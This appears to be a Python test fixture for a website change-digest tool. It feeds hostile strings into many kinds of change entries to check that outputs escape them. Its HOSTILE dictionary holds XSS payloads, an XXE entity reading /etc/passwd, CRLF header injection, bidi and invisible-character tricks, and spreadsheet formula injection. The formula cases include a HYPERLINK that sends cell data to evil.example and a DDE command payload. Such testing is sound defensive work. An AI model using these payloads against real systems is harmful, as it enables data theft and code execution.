"""Texts that attack whoever shows them, and changes made of them. Every output must stand all of them."""

from datetime import UTC, datetime

from monitor.digest import Entry
from monitor.model import Change, ChangeType, Scope, Where

HOSTILE = {
    "markup": "</p></li></style></title><script>alert(1)</script><img src=x onerror=alert(2)><svg onload=x>",
    "attributes": "\" onmouseover=\"alert(1)\" ' style='position:fixed' x=`",
    "end of a section": "]]> --> <!ENTITY x SYSTEM 'file:///etc/passwd'> &x; &lt;script&gt; &#x3c;",
    "templates": "{count} {0} {} {{7*7}} ${7*7} <%= 7 %> %s %n %(x)s",
    "escape sequences": "\x1b[31mred\x1b[0m \x1b]0;owned\x07 \x9b2J \x00\x08\x7f",
    "line breaks": "a\r\nBcc: victim@example.org\r\n\r\n.\r\nQUIT\n\u2028x\u2029y\x85z\x0b\x0c",
    "directions": "\u202egnp.exe\u202c \u2066x\u2069 \u200f\u200e\u061c \u2067",
    "invisible": "se\u200bcr\u2060et\ufeff \xad \U000e0041\U000e0042 \ufff9x\ufffb",
    "half a character": "\ud800 x \udfff",
    "one long word": "x" * 10_000,
    "many words": "word " * 2_000,
    "combining": "Z" + "\u0351" * 2_000,
    "formula": '=HYPERLINK("http://evil.example/?"&A1;"click")',
    "formula with plus": "+1+cmd|' /C calc'!A0",
    "formula with minus": "-2+3",
    "formula with at": "@SUM(1+1)",
    "formula after a tab": "\t=1+1",
    "formula after a break": "\r\n=1+1",
    "wide formula": "＝1+1",
    "script address": "javascript:alert(1)//",
    "data address": "data:text/html,<script>alert(1)</script>",
    "password address": "https://user:pass@evil.example/",
    "empty": "",
}

MARK = "The gauge at the lower lock was moved."
"""What an ordinary change beside them says: it must come out, whatever the others say."""

BEGIN, END = datetime(2026, 1, 11, 7, tzinfo=UTC), datetime(2026, 1, 12, 7, tzinfo=UTC)


def hostile_entries(text: str) -> list[Entry]:
    """Changes of many kinds that hold the text wherever a page can put one, and an ordinary one."""
    pages = [text, f"https://town.example/{text}"]
    whole = {"sentence": text, "path": (text, text), "text": text, "evidence": (text,), "rule": "a/b"}
    sides = {"before": f"{text} 1", "after": f"{text} 2", "spans": (("1", "2"),)}
    menu = {
        "scope": Scope.SITE,
        "region": f"menu: {text}",
        "pages_after": tuple(pages),
        "pages_before": (text,),
    }
    changes = [
        _change(ChangeType.PARAGRAPH_EDITED, page=pages[0], **whole, **sides),
        _change(ChangeType.TITLE_CHANGED, page=pages[1], **whole, before=text, after=f"{text}!"),
        _change(ChangeType.PARAGRAPH_SPLIT, page=pages[1], **whole, before=text, after=(text, text)),
        _change(ChangeType.TABLE_ROW_ADDED, page=pages[1], **whole, after=text),
        _change(ChangeType.LINK_CHANGED, page=pages[1], **whole, before=text, after=text),
        _change(ChangeType.PAGE_TROUBLE, page=pages[1], **whole, kind=text),
        _change(ChangeType.MENU_RENAMED, where=Where.CHROME, **whole, **menu, **sides),
        _change(ChangeType.ANNOTATION_MOVED, **whole, annotation=text, from_item=text, to_item=text),
    ]
    entries = [Entry(site=text, title=text, change=change) for change in changes]
    plain = _change(
        ChangeType.PARAGRAPH_ADDED,
        sentence=MARK,
        after=MARK,
        page="https://town.example/levels",
        importance=1.0,
    )
    return [*entries, Entry(site="town", title="Levels", change=plain)]


def _change(type_: ChangeType, **values: object) -> Change:
    always = {"where": Where.BODY, "importance": 0.5, "between": (BEGIN, END), "id": f"c1-{type_.value}"}
    return Change(type=type_, **(always | values))  # type: ignore[arg-type]
